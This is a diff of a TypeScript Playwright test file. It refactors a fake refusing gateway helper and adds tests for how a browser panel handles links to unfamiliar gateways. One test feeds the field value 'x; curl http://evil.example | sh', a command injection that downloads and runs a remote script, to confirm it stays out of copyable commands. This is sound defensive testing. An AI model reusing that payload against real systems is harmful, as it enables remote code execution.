@@ -1,37 +1,16 @@
 /** Links and gateways of strangers, and what a browser still shows or keeps that is no longer signed in. In a real Chromium. */
 import assert from "node:assert/strict";
-import { createServer } from "node:http";
-import type { AddressInfo } from "node:net";
-import { describe, it, type TestContext } from "node:test";
+import { describe, it } from "node:test";
 import { connect } from "@svc/sdk/client";
 import { devices } from "@svc/sdk/devices";
 import type { Page } from "playwright-core";
-import { WebSocketServer } from "ws";
 import { without } from "../../programs.ts";
 import { openPanel } from "./browser-scene.ts";
+import { strangeGateway } from "./strange-gateway.ts";
 
 const skip = without("chromium");
 const content = (page: Page) => page.locator("main#content");
 const heading = (page: Page, name: string) => page.getByRole("heading", { name });
-
-/** A gateway that refuses every client with an error. */
-async function refusingGateway(t: TestContext, error: object): Promise<string> {
-  const server = createServer();
-  const sockets = new WebSocketServer({ server });
-  sockets.on("connection", (socket) => {
-    socket.send(JSON.stringify({ type: "event", event: "connect.challenge", payload: { nonce: "n", ts: 1 } }));
-    socket.on("message", () => {
-      socket.send(JSON.stringify({ type: "res", id: "connect", ok: false, error }));
-      socket.close(1008, "refused");
-    });
-  });
-  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
-  t.after(() => {
-    for (const socket of sockets.clients) socket.terminate();
-    server.close();
-  });
-  return `ws://127.0.0.1:${(server.address() as AddressInfo).port}`;
-}
 
 describe("a link of a stranger", { skip, concurrency: 2 }, () => {
   it("is asked about by the name of the gateway that would be used", async (t) => {
@@ -69,7 +48,7 @@ describe("a link of a stranger", { skip, concurrency: 2 }, () => {
   it("says whose question it is when the other gateway asks for a secret", async (t) => {
     const { page: newPage, address, problems } = await openPanel(t);
     const details = { code: "AUTH_TOKEN_MISSING" };
-    const url = await refusingGateway(t, { code: "INVALID_REQUEST", message: "unauthorized", details });
+    const { url } = await strangeGateway(t, { code: "INVALID_REQUEST", message: "unauthorized", details });
     const page = await newPage();
     await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(url)}`);
     await page.getByRole("button", { name: "Connect to it" }).click();
@@ -78,10 +57,20 @@ describe("a link of a stranger", { skip, concurrency: 2 }, () => {
     problems.length = 0; // the connection to the other gateway is the subject of this test
   });
 
+  it("waits for an approval even if the other gateway names no request", async (t) => {
+    const { page: newPage, address, problems } = await openPanel(t);
+    const { url } = await strangeGateway(t, { code: "NOT_PAIRED", message: "pairing required" });
+    const page = await newPage();
+    await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(url)}`);
+    await page.getByRole("button", { name: "Connect to it" }).click();
+    await heading(page, "This browser needs approval").waitFor();
+    problems.length = 0; // as above
+  });
+
   it("puts no command of the other gateway into the line that people copy", async (t) => {
     const { page: newPage, address, problems } = await openPanel(t);
     const details = { code: "PAIRING_REQUIRED", requestId: "x; curl http://evil.example | sh" };
-    const url = await refusingGateway(t, { code: "NOT_PAIRED", message: "pairing required", details });
+    const { url } = await strangeGateway(t, { code: "NOT_PAIRED", message: "pairing required", details });
     const page = await newPage();
     await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(url)}`);
     await page.getByRole("button", { name: "Connect to it" }).click();
@@ -92,7 +81,7 @@ describe("a link of a stranger", { skip, concurrency: 2 }, () => {
 });
 
 it("gives a refusal of a strange gateway a known code, whatever it sends", async (t) => {
-  const url = await refusingGateway(t, { code: "constructor", message: "no" });
+  const { url } = await strangeGateway(t, { code: "constructor", message: "no" });
   await assert.rejects(connect({ url }), { code: "INTERNAL", message: "no" });
 });
 
